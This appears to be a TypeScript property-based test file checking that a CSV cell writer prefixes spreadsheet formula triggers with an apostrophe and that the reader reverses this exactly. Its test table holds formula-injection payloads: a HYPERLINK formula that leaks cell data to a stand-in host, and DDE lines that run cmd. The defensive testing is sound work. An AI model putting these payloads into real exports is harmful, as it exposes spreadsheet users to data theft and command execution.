import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportCell, FORMULA_TRIGGERS, importCell } from '../../../server/src/contract/csv-cells.js';

// A fixed seed so a failure reproduces; fast-check prints the counterexample and its path.
const RUNS = { numRuns: 2_000, seed: 20251122 } as const;
const startsWithTrigger = (s: string) => (FORMULA_TRIGGERS as readonly string[]).includes(s.charAt(0));

/** Any string at all, and strings made mostly of apostrophes and triggers, where the edges are. */
const anyString = fc.string({ unit: 'binary', maxLength: 40 });
const edgyString = fc.string({ unit: fc.constantFrom("'", ...FORMULA_TRIGGERS, 'a', '1', ' ', '"', ','), maxLength: 12 });
const strings = fc.oneof(anyString, edgyString);

describe('CSV cells against formula injection', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")'],
    ["+cmd|' /C calc'!A0"],
    ['@SUM(1+1)'],
    ["-2+3+cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('prefixes %j with an apostrophe, and reads it back', (payload) => {
    expect(exportCell(payload)).toBe(`'${payload}`);
    expect(importCell(`'${payload}`)).toBe(payload);
  });

  it('leaves text that starts otherwise alone, NHS numbers and dates included', () => {
    for (const s of ['John Smith', '9434765919', '2025-01-06', '0-1', '104+', "'Tis", "''a", "'", '', ' =x']) {
      expect(exportCell(s)).toBe(s);
      expect(importCell(s)).toBe(s);
    }
  });

  it('text that really starts with apostrophes then a trigger gets one more, and loses only that one', () => {
    expect(exportCell("'=x")).toBe("''=x");
    expect(importCell("''=x")).toBe("'=x");
    expect(exportCell("''-x")).toBe("'''-x");
    expect(importCell("'''-x")).toBe("''-x");
  });

  it('property: importCell(exportCell(s)) === s for every string', () => {
    fc.assert(
      fc.property(strings, (s) => importCell(exportCell(s)) === s),
      RUNS,
    );
  });

  it('property: a written cell never starts with a trigger', () => {
    fc.assert(
      fc.property(strings, (s) => !startsWithTrigger(exportCell(s))),
      RUNS,
    );
  });

  it('property: the writer changes a cell only by one leading apostrophe', () => {
    fc.assert(
      fc.property(strings, (s) => {
        const out = exportCell(s);
        return out === s || out === `'${s}`;
      }),
      RUNS,
    );
  });
});
